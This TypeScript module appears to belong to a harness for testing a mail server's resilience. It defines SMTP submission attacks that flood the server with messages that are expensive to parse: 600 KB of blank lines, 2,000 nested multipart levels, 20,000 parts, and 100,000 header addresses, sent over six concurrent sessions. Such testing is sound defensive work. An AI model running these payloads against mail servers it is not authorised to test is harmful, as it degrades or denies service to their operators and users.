/** Small SMTP messages that are expensive to parse. */
import { RECEIVER, type Attack, type Count, type RunningAttack, type Target } from '../attack.ts';
import { runLanes } from '../attacker/run-lanes.ts';
import { openSmtpSession, submit } from '../attacker/smtp-client.ts';

const LANES = 6;
const HEADER = 'From: Mallory <mallory@attacker.example>\r\nSubject: Hello\r\nMIME-Version: 1.0\r\n';
const LEVELS = 2000;
const PARTS = 20_000;
const ADDRESSES = 100_000;

/** Submits messages in sequence, each in its own session, with a test key where possible. */
const submitting =
  (...messages: readonly string[]) =>
  ({ submissionPort, address, keys }: Target, count: Count): RunningAttack => {
    const bytes = messages.map((message) => Buffer.from(message, 'latin1'));
    return runLanes(LANES, count, async (nth, signal) => {
      const client = await openSmtpSession(submissionPort, address, keys.test, signal);
      try {
        const message = bytes[nth % bytes.length] ?? Buffer.alloc(0);
        count(await submit(client, { from: 'mallory@attacker.example', to: [`reader-${String(nth)}@${RECEIVER}`] }, message));
      } finally {
        client.close();
      }
    });
  };

/** Nested multipart parts. */
function nested(levels: number): string {
  const opening = Array.from({ length: levels }, (_, level) => {
    const boundary = `b${String(level)}`;
    return `Content-Type: multipart/mixed; boundary=${boundary}\r\n\r\n--${boundary}\r\n`;
  });
  return `${HEADER}${opening.join('')}Content-Type: text/plain\r\n\r\nx\r\n`;
}

/** Many parts next to each other. */
const manyParts = (parts: number): string =>
  `${HEADER}Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Type: text/plain\r\n\r\nx\r\n'.repeat(parts)}--b--\r\n`;

export const smtpBlankLines: Attack = {
  name: 'smtp-blank-lines',
  title: '600 KB of blank lines in each message, by SMTP, six at once',
  begin: submitting(
    `${HEADER}Content-Type: text/plain\r\n\r\n${'\r\n'.repeat(300_000)}`,
    `${HEADER}Content-Type: text/html\r\n\r\n${'\r\n'.repeat(300_000)}`,
    `${HEADER}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n${'\r\n'.repeat(300_000)}--b--\r\n`,
  ),
};

export const smtpParts: Attack = {
  name: 'smtp-parts',
  title: 'messages of 20,000 parts and of 2,000 nested ones, by SMTP, six at once',
  begin: submitting(nested(LEVELS), manyParts(PARTS)),
};

export const smtpAddresses: Attack = {
  name: 'smtp-addresses',
  title: 'messages by SMTP with 100,000 addresses in their header',
  begin: submitting(
    `${HEADER}To: ${Array.from({ length: ADDRESSES }, (_, index) => `"N ${String(index)}" <a${String(index)}@b.example>`).join(',\r\n ')}\r\n\r\nx\r\n`,
  ),
};
